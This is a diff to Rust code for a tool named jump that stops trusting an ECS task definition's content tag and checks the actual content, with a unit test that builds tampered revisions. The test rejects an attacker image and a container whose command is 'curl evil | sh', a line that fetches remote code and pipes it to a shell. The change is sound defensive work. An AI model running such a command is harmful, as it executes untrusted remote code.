@@ -182,10 +182,20 @@ pub async fn ensure_task_definition(
                 .tags()
                 .iter()
                 .any(|t| t.key() == Some(TAG_CONTENT_HASH) && t.value() == Some(&def.content_hash));
-            let arn = out.task_definition().and_then(|d| d.task_definition_arn());
-            if let (true, Some(arn)) = (same, arn) {
-                tracing::debug!(arn, "task definition unchanged");
-                return Ok(arn.to_string());
+            if let Some(latest) = out.task_definition().filter(|_| same) {
+                // The tag is only a hint: anyone who may register this family can copy it
+                // onto a revision of their own, so the content itself must match.
+                match latest.task_definition_arn() {
+                    Some(arn) if matches_spec(&def.spec, latest) => {
+                        tracing::debug!(arn, "task definition unchanged");
+                        return Ok(arn.to_string());
+                    }
+                    arn => tracing::warn!(
+                        arn,
+                        "the latest revision carries jump's content tag but not its content; \
+                         registering a fresh one"
+                    ),
+                }
             }
         }
         // A family that was never registered is reported as a client error.
@@ -193,6 +203,68 @@ pub async fn ensure_task_definition(
         Err(e) => return Err(e.into()),
     }
     register(ecs, def).await
+}
+
+/// Whether a registered revision is exactly what `spec` describes: every field jump sets
+/// is equal, and none of the fields that could change what runs (command, environment,
+/// secrets, volumes, privileges, namespaces, user) is set.
+fn matches_spec(spec: &TaskDefinitionSpec, found: &aws_sdk_ecs::types::TaskDefinition) -> bool {
+    let task_level = found.cpu() == Some(spec.cpu.as_str())
+        && found.memory() == Some(spec.memory.as_str())
+        && found.network_mode().map(|m| m.as_str()) == Some(spec.network_mode.as_str())
+        && found.task_role_arn() == spec.task_role_arn.as_deref()
+        && found.execution_role_arn() == spec.execution_role_arn.as_deref()
+        && found.volumes().is_empty()
+        && found.pid_mode().is_none()
+        && found.ipc_mode().is_none()
+        && found.proxy_configuration().is_none();
+    task_level
+        && found.container_definitions().len() == spec.container_definitions.len()
+        && found
+            .container_definitions()
+            .iter()
+            .zip(&spec.container_definitions)
+            .all(|(found, spec)| container_matches(spec, found))
+}
+
+fn container_matches(spec: &ContainerSpec, found: &ContainerDefinition) -> bool {
+    let log = found.log_configuration().is_some_and(|l| {
+        l.log_driver().as_str() == spec.log_configuration.log_driver
+            && l.options().is_some_and(|o| {
+                o.len() == spec.log_configuration.options.len()
+                    && spec
+                        .log_configuration
+                        .options
+                        .iter()
+                        .all(|(k, v)| o.get(k) == Some(v))
+            })
+    });
+    let ports = found.port_mappings().len() == spec.port_mappings.len()
+        && found
+            .port_mappings()
+            .iter()
+            .zip(&spec.port_mappings)
+            .all(|(f, s)| {
+                f.container_port() == Some(s.container_port)
+                    && f.protocol().map(|p| p.as_str()) == Some(s.protocol.as_str())
+            });
+    found.name() == Some(spec.name.as_str())
+        && found.image() == Some(spec.image.as_str())
+        && found.essential().unwrap_or(true) == spec.essential
+        && log
+        && ports
+        && found.entry_point().is_empty()
+        && found.command().is_empty()
+        && found.environment().is_empty()
+        && found.environment_files().is_empty()
+        && found.secrets().is_empty()
+        && found.mount_points().is_empty()
+        && found.volumes_from().is_empty()
+        && found.linux_parameters().is_none()
+        && found.privileged() != Some(true)
+        && found.user().is_none()
+        && found.repository_credentials().is_none()
+        && found.docker_labels().is_none_or(|l| l.is_empty())
 }
 
 async fn register(ecs: &aws_sdk_ecs::Client, def: &TaskDefinition) -> anyhow::Result<String> {
@@ -459,6 +531,41 @@ mod tests {
             log_stream_name("jumphost", "arn:aws:ecs:r:1:task/c/0123abcd"),
             "jump/jumphost/0123abcd"
         );
+    }
+
+    #[test]
+    fn a_revision_matches_only_with_the_same_content() {
+        let plan = plan("task_role = \"arn:aws:iam::1:role/t\"");
+        let def = task_definition(&plan, "eu-west-1").unwrap();
+        let spec = &def.spec;
+        let revision = |containers: Vec<ContainerDefinition>| {
+            aws_sdk_ecs::types::TaskDefinition::builder()
+                .cpu(&spec.cpu)
+                .memory(&spec.memory)
+                .network_mode(NetworkMode::from(spec.network_mode.as_str()))
+                .set_task_role_arn(spec.task_role_arn.clone())
+                .set_execution_role_arn(spec.execution_role_arn.clone())
+                .set_container_definitions(Some(containers))
+                .build()
+        };
+        let ours = container_definition(&spec.container_definitions[0]).unwrap();
+        assert!(matches_spec(spec, &revision(vec![ours.clone()])));
+
+        let mut other_image = spec.container_definitions[0].clone();
+        other_image.image = "attacker/image:1".to_string();
+        let other_image = container_definition(&other_image).unwrap();
+        assert!(!matches_spec(spec, &revision(vec![other_image])));
+
+        let with_command = ContainerDefinition::builder()
+            .name(ours.name().unwrap())
+            .image(ours.image().unwrap())
+            .essential(true)
+            .set_port_mappings(Some(ours.port_mappings().to_vec()))
+            .set_log_configuration(ours.log_configuration().cloned())
+            .command("curl evil | sh")
+            .build();
+        assert!(!matches_spec(spec, &revision(vec![with_command])));
+        assert!(!matches_spec(spec, &revision(vec![ours.clone(), ours])));
     }
 
     #[test]
